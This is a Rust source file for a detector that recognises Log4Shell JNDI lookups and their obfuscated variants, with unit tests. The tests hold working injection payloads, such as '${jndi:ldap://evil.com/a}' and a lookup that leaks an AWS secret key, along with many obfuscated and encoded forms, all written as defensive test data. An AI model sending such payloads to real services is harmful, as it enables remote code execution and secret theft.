//! `${jndi:…}` lookups (Log4Shell, CVE-2021-44228) and their obfuscated
//! forms.
//!
//! Log4j resolves `${prefix:key}` lookups recursively, and a lookup it
//! cannot resolve yields its default (`${x:-d}` → `d`), `${lower:J}` → `j`.
//! Attackers build `jndi:` out of such pieces: `${${lower:j}ndi:`,
//! `${${::-j}${::-n}di:`, `${${env:NaN:-j}ndi:`. This detector evaluates
//! the nesting the same way, with a stack of buffers (depth-capped, so the
//! work stays linear), and looks at what each lookup resolves to.
//!
//! | found | severity | paranoia |
//! |---|---|---|
//! | a lookup resolving to `jndi:` (plain or obfuscated) | critical | 1 |
//! | `${base64:…}` | critical | 1 |
//! | building blocks (`${::-x}`, `${lower:x}`, `${date:'x'}`) nested in another lookup | critical | 1 |
//! | `${env:…}`, `${sys:…}`, `${java:…}`, `${main:…}`, `${k8s:…}`… (secrets leaked into logs, the exfiltration half of Log4Shell) in a single-line value (query, path, header, cookie) | critical | 1 |
//! | the same in free text (PowerShell writes `${env:PATH}`) | warning | 2 |
//! | a lone building block (`${lower:x}`) | error | 1 |
//! | nesting deeper than the cap inside `${` | error | 1 |
//! | `${ctx:…}`, `${marker:…}`, `${map:…}` and other context lookups | warning | 2 |

use super::traversal::text::{hit, is_prose, starts_with_ci, worse};
use super::{Context, Detector, DetectorKind, Hit};
use crate::normalize::Normalized;
use crate::report::Severity;

/// The JndiLookup detector.
pub struct JndiLookup;

/// Deepest nesting evaluated.
const MAX_DEPTH: usize = 12;

/// Log4j lookups that read secrets or the environment: they leak into
/// logs, and are what `jndi:` URLs exfiltrate.
const SECRET_LOOKUPS: &[&[u8]] = &[
    b"env:",
    b"sys:",
    b"java:",
    b"main:",
    b"bundle:",
    b"spring:",
    b"k8s:",
    b"docker:",
    b"log4j:",
    b"web:",
    b"jvmrunargs:",
];

/// Other Log4j lookups (context data, formatting).
const LOOKUPS: &[&[u8]] = &[
    b"ctx:",
    b"marker:",
    b"map:",
    b"sd:",
    b"event:",
    b"date:",
    b"lower:",
    b"upper:",
    b"hostname",
];

impl Detector for JndiLookup {
    fn kind(&self) -> DetectorKind {
        DetectorKind::Jndi
    }

    fn detect(&self, value: &Normalized<'_>, ctx: &Context<'_>) -> Option<Hit> {
        let prose = is_prose(ctx.kind);
        let a = scan(value.decoded.as_bytes(), prose);
        if a.is_some_and(|h| h.severity == Severity::Critical) {
            return a;
        }
        if matches!(value.decoded, std::borrow::Cow::Borrowed(_)) {
            // The raw value is the decoded one.
            return a;
        }
        worse(a, scan(value.raw.as_bytes(), prose))
    }
}

/// Evaluates the `${…}` nesting of `s`.
fn scan(s: &[u8], prose: bool) -> Option<Hit> {
    // Nothing to evaluate without a lookup.
    memchr::memmem::find(s, b"${")?;
    // Each open `${` gets a buffer; `}` pops it and appends what it
    // resolves to to its parent. Depth is capped; bytes outside any lookup
    // are not kept.
    // (content, inner lookups resolved into it, one of them a building block)
    let mut stack: Vec<(Vec<u8>, bool, bool)> = Vec::new();
    let mut found: Option<Hit> = None;
    let mut i = 0;
    while i < s.len() {
        let c = s[i];
        if c == b'$' && s.get(i + 1) == Some(&b'{') {
            if stack.len() >= MAX_DEPTH {
                found = worse(
                    found,
                    Some(hit(Severity::Error, 1, "deeply nested ${ lookups")),
                );
            } else {
                stack.push((Vec::new(), false, false));
            }
            i += 2;
            continue;
        }
        if c == b'}' && !stack.is_empty() {
            if let Some((buf, nested, obf)) = stack.pop() {
                let (resolved, verdict, block) = evaluate(&buf, nested, prose);
                found = worse(found, verdict);
                if obf {
                    found = worse(
                        found,
                        Some(hit(Severity::Critical, 1, "obfuscated log4j lookup")),
                    );
                }
                if let Some(parent) = stack.last_mut() {
                    parent.0.extend_from_slice(&resolved);
                    parent.1 = true;
                    parent.2 |= block;
                }
            }
            i += 1;
            continue;
        }
        if let Some(top) = stack.last_mut()
            && top.0.len() < 4096
        {
            top.0.push(c);
        }
        i += 1;
    }
    // Lookups left open (a cut payload) are judged on what they hold.
    while let Some((buf, nested, obf)) = stack.pop() {
        let (_, verdict, _) = evaluate(&buf, nested, prose);
        found = worse(found, verdict);
        if obf {
            found = worse(
                found,
                Some(hit(Severity::Critical, 1, "obfuscated log4j lookup")),
            );
        }
    }
    found
}

/// What the content of one `${…}` resolves to, whether it is an attack,
/// and whether it is an obfuscation building block. `nested` says whether
/// inner lookups were resolved into it.
fn evaluate(buf: &[u8], nested: bool, prose: bool) -> (Vec<u8>, Option<Hit>, bool) {
    let trimmed = trim(buf);
    if starts_with_ci(trimmed, 0, b"jndi:") || starts_with_ci(trimmed, 0, b"jndi ") {
        let reason = if nested {
            "obfuscated ${jndi: lookup"
        } else {
            "${jndi: lookup"
        };
        return (Vec::new(), Some(hit(Severity::Critical, 1, reason)), false);
    }
    if starts_with_ci(trimmed, 0, b"base64:") {
        return (
            Vec::new(),
            Some(hit(Severity::Critical, 1, "${base64: lookup")),
            false,
        );
    }
    let block = Some(hit(Severity::Error, 1, "log4j lookup building block"));
    // `${lower:x}`, `${upper:x}` → x.
    for p in [&b"lower:"[..], b"upper:"] {
        if starts_with_ci(trimmed, 0, p) {
            let rest = &trimmed[p.len()..];
            return (rest.to_ascii_lowercase(), block, true);
        }
    }
    // `${date:'j'}` → j.
    if starts_with_ci(trimmed, 0, b"date:") {
        let rest: Vec<u8> = trimmed[5..]
            .iter()
            .copied()
            .filter(|&b| b != b'\'')
            .collect();
        return (rest, block, true);
    }
    let secret = SECRET_LOOKUPS.iter().any(|l| starts_with_ci(trimmed, 0, l));
    let secret_hit = if prose {
        Some(hit(Severity::Warning, 2, "log4j ${env:}-style lookup"))
    } else {
        Some(hit(Severity::Critical, 1, "log4j ${env:}-style lookup"))
    };
    // `${anything:-default}` → default.
    if let Some(p) = trimmed.windows(2).position(|w| w == b":-") {
        let head = &trimmed[..p];
        let empty = head.is_empty() || head == b":";
        let verdict = if empty {
            block
        } else if secret {
            secret_hit
        } else if LOOKUPS.iter().any(|l| starts_with_ci(trimmed, 0, l)) {
            Some(hit(Severity::Warning, 2, "log4j ${lookup}"))
        } else {
            None
        };
        let is_block = empty || secret || LOOKUPS.iter().any(|l| starts_with_ci(trimmed, 0, l));
        return (trimmed[p + 2..].to_vec(), verdict, is_block);
    }
    if secret && trimmed.len() > 4 && !trimmed.ends_with(b":") {
        return (Vec::new(), secret_hit, false);
    }
    if LOOKUPS.iter().any(|l| starts_with_ci(trimmed, 0, l)) {
        return (
            Vec::new(),
            Some(hit(Severity::Warning, 2, "log4j ${lookup}")),
            false,
        );
    }
    // Anything else (a shell `${HOME}`, a template `${name}`): resolves to
    // nothing interesting.
    (Vec::new(), None, false)
}

fn trim(b: &[u8]) -> &[u8] {
    let start = b
        .iter()
        .position(|c| !c.is_ascii_whitespace())
        .unwrap_or(b.len());
    &b[start..]
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Hints;
    use crate::normalize::normalize;
    use crate::report::ValueKind;

    fn check(v: &str) -> Option<Hit> {
        crate::detect::run(&JndiLookup, v, ValueKind::Header)
    }

    fn critical(v: &str) -> bool {
        check(v).is_some_and(|h| h.severity == Severity::Critical && h.paranoia == 1)
    }

    #[test]
    fn plain_and_obfuscated_lookups() {
        for v in [
            "${jndi:ldap://evil.com/a}",
            "${JNDI:rmi://1.2.3.4:1099/x}",
            "Mozilla/5.0 ${jndi:dns://x.oast.me}",
            "${${lower:j}ndi:ldap://x/}",
            "${${lower:j}${lower:n}${lower:d}i:${lower:r}mi://x/}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://x}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
            "${${upper:j}ndi:ldap://x}",
            "${j${k8s:k5:-ND}i:ldap://x}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
            "${${lower:${lower:j}}ndi:ldap://x}",
            "${jndi:ldap://x/${env:AWS_SECRET_ACCESS_KEY}}",
            "${jndi:ldap://unterminated",
            "${base64:JHtqbmRpOmxkYXA6Ly94fQ==}",
        ] {
            assert!(critical(v), "{v}: {:?}", check(v));
        }
    }

    #[test]
    fn encoded_lookups() {
        for v in [
            "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D",
            "%2524%257Bjndi:ldap://x%257D",
            "\\u0024\\u007bjndi:ldap://x\\u007d",
            "&#36;&#123;jndi:ldap://x&#125;",
            "\u{FF04}\u{FF5B}jndi:ldap://x\u{FF5D}",
        ] {
            assert!(critical(v), "{v}: {:?}", check(v));
        }
    }

    #[test]
    fn secret_and_weaker_lookups() {
        for v in [
            "${env:AWS_SECRET_ACCESS_KEY}",
            "${sys:user.home}",
            "${java:version}",
            "q=${env:HOME}",
        ] {
            assert!(critical(v), "{v}: {:?}", check(v));
        }
        let hints = Hints::default();
        let prose = Context {
            kind: ValueKind::JsonString,
            hints: &hints,
            paranoia: 1,
        };
        let h = JndiLookup
            .detect(&normalize("Use ${env:PATH} in PowerShell"), &prose)
            .unwrap();
        assert_eq!((h.severity, h.paranoia), (Severity::Warning, 2));
        for v in ["${ctx:loginId}", "${marker:x}"] {
            let h = check(v).unwrap();
            assert_eq!((h.severity, h.paranoia), (Severity::Warning, 2), "{v}");
        }
        assert_eq!(
            check("${lower:abc}").map(|h| h.severity),
            Some(Severity::Error)
        );
        assert!(critical("${${::-${::-$${::-j}}}}"));
    }

    #[test]
    fn benign() {
        for v in [
            "${HOME}/bin",
            "Hello ${name}, your total is ${total}",
            "${PATH:-/usr/bin}",
            "price: $5 {discount}",
            "jndi is a Java API",
            "java:comp/env/jdbc/ds",
            "`${a}${b}`",
            "{}{}$$}}{{",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig",
        ] {
            assert!(check(v).is_none(), "{v}: {:?}", check(v));
        }
    }
}
